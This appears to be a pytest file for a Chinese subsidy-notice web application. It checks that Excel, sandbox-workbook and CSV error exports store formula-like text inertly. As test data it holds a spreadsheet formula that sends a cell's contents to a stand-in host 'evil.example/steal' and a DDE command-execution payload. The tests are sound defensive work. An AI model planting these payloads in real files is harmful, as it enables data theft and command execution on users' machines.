"""No export carries a live formula: the 公示 Excel export of a firm whose name begins with
"=", the sandbox workbook, the screening error files (SQLite and PostgreSQL for the 公示)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook

from huiqi.cells import FORMULA_LEAD, csv_cell, keep_text
from tests.helpers.api import API, AsUser
from tests.helpers.applications import approved_application

EVIL_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'


@pytest.mark.usefixtures("next_year_recorded")  # the batch starts today
def test_notice_export_keeps_a_formula_like_firm_name_as_text(
    client: TestClient, as_user: AsUser
) -> None:
    admin = as_user("admin")
    r = client.patch(f"{API}/enterprises/1", json={"name": EVIL_NAME}, headers=admin)
    assert r.status_code == 200, r.text
    app_id = approved_application(client, as_user, key="formula")
    city = as_user("city_kj")
    r = client.post(
        f"{API}/notices", json={"title": "拟支持名单", "application_ids": [app_id]}, headers=city
    )
    assert r.status_code == 201, r.text
    xlsx = client.get(f"{API}/notices/{r.json()['id']}/export.xlsx", headers=city)
    assert xlsx.status_code == 200
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    names = [row for row in ws.iter_rows(min_row=3) if row[1].value == EVIL_NAME]
    assert names, [c.value for c in ws["B"]]
    cell = names[0][1]
    assert cell.data_type == "s" and cell.quotePrefix  # text shown as typed, never evaluated
    # no formula anywhere in the file
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f", c.coordinate


@pytest.mark.parametrize("lead", FORMULA_LEAD)
def test_every_formula_lead_is_neutralised(lead: str) -> None:
    wb = Workbook()
    ws = wb.active
    ws.append([f"{lead}1+1", "普通文本", -5, "中-文"])
    assert keep_text(ws) == 1
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(buf).active
    # (XML stores a carriage return as a line feed)
    assert back["A1"].data_type == "s" and back["A1"].value[1:] == "1+1"
    assert back["C1"].value == -5  # numbers stay numbers
    assert csv_cell(f"{lead}1+1") == f"'{lead}1+1" and csv_cell("中-文") == "中-文"


def test_sandbox_workbook_keeps_text(tmp_path: Path) -> None:
    from huiqi.sandbox.report import Tables, write_excel

    fields = Tables.__dataclass_fields__
    empty = {name: [] for name in fields}
    tables = Tables(
        **{**empty, "overview": [("改革名称", "=cmd|' /C calc'!A0"), ("说明", "@SUM(1)")]}
    )
    out = tmp_path / "s.xlsx"
    write_excel(tables, out)
    ws = load_workbook(out)["概要"]
    values = {c.value: c for row in ws.iter_rows() for c in row}
    for text in ("=cmd|' /C calc'!A0", "@SUM(1)"):
        assert values[text].data_type == "s" and values[text].quotePrefix


def test_screening_error_file_escapes_text(tmp_path: Path) -> None:
    from huiqi.policies import load_policy
    from huiqi.screening.flat import flat_layout
    from huiqi.screening.screen import screen_file

    src = tmp_path / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(flat_layout(load_policy("wuhan-digital-economy-2022")).required)
        w.writerow(["=1+1", "是", "=SUM(A1)", "1", "1", ""])
    import datetime as dt

    report = screen_file(
        load_policy("wuhan-digital-economy-2022"),
        src,
        tmp_path / "out.parquet",
        2023,
        dt.date(2024, 6, 30),
        errors_path=tmp_path / "errors.csv",
        progress=False,
    )
    assert report.errors
    with (tmp_path / "errors.csv").open(encoding="utf-8-sig") as fh:
        for row in csv.reader(fh):
            for value in row:
                assert not value.startswith(FORMULA_LEAD), value
